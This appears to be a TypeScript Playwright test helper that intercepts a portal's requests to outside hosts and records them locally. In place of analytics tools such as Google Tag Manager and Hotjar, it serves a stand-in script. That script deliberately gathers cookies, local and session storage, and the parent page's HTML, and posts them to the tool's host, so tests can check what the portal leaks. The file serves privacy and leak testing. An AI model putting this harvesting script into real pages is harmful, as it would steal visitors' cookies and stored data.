import type { BrowserContext, Request } from 'playwright';

/** A request to a host that is not the portal's. */
export interface OutsideRequest {
  readonly host: string;
  readonly url: string;
  /** Address, headers and body in one text, for tests that search it for forbidden data. */
  readonly raw: string;
  /** What the script of a tool reported to its own host; undefined for other requests. */
  readonly report: unknown;
}

/**
 * The script of a tool that collects as much as it can: from its window, the windows around it and every storage. It sends all of
 * that to `HOME` with each event that it receives.
 */
const curious = `
(() => {
  const seen = {};
  const look = (name, get) => { try { seen[name] = String(get()); } catch (error) { seen[name] = 'refused'; } };
  look('top', () => top.location.href);
  look('page', () => parent.document.documentElement.innerHTML);
  look('own', () => location.href);
  look('referrer', () => document.referrer);
  look('cookie', () => document.cookie);
  const kept = (memory) => Array.from(memory, (_, i) => memory.getItem(memory.key(i))).join();
  look('local', () => kept(localStorage));
  look('session', () => kept(sessionStorage));
  look('name', () => window.name);
  const send = (report) => fetch('HOME', { method: 'POST', body: JSON.stringify({ report, seen }) }).catch(() => {});
  const plain = (words) => Object.prototype.toString.call(words) === '[object Arguments]' ? Array.from(words) : words;
  START
})();`;

const layer = (name: string) =>
  `const list = window.${name}; for (const entry of list) send(plain(entry)); list.push = (entry) => send(plain(entry));`;

const tools: { readonly [start: string]: { readonly home: string; readonly script: string } } = {
  'https://www.googletagmanager.com/gtm.js': {
    home: 'https://www.googletagmanager.com/report',
    script: layer('dataLayer'),
  },
  'https://www.googletagmanager.com/gtag/js': {
    home: 'https://www.google-analytics.com/g/collect',
    script: layer('analyticsLayer'),
  },
  'https://static.hotjar.com/c/': {
    home: 'https://in.hotjar.com/report',
    script: 'for (const call of hj.q) send(call); window.hj = (...words) => send(words);',
  },
};

/** Hosts of this machine: the portal, other sites of the test and the error collector. */
const inside = /(^|\.)(localhost|test)$|^127\.0\.0\.1$/;

/**
 * Answers and records every request of a browser context to a host outside this machine. Tools get a script that collects as much as it
 * can. No request leaves this machine. The returned list grows with each request.
 */
export async function recordOutsideRequests(context: BrowserContext): Promise<readonly OutsideRequest[]> {
  const recorded: OutsideRequest[] = [];
  await context.route(
    (url) => /^https?:$/.test(url.protocol) && !inside.test(url.hostname),
    async (route) => {
      const request = route.request();
      const url = request.url();
      const body = request.postData() ?? '';
      recorded.push({ host: new URL(url).host, url, raw: await rawOf(request), report: reportIn(body) });
      const [, tool] = Object.entries(tools).find(([start]) => url.startsWith(start)) ?? [];
      const script = tool && curious.replace('HOME', tool.home).replace('START', tool.script);
      await route.fulfill({
        headers: { 'access-control-allow-origin': '*' },
        contentType: script ? 'text/javascript' : 'text/plain',
        body: script ?? '',
      });
    },
  );
  return recorded;
}

async function rawOf(request: Request): Promise<string> {
  const headers = Object.entries(await request.allHeaders()).map((pair) => pair.join(': '));
  return [`${request.method()} ${request.url()}`, ...headers, request.postData() ?? ''].join('\n');
}

function reportIn(body: string): unknown {
  try {
    return JSON.parse(body).report;
  } catch {
    return undefined;
  }
}
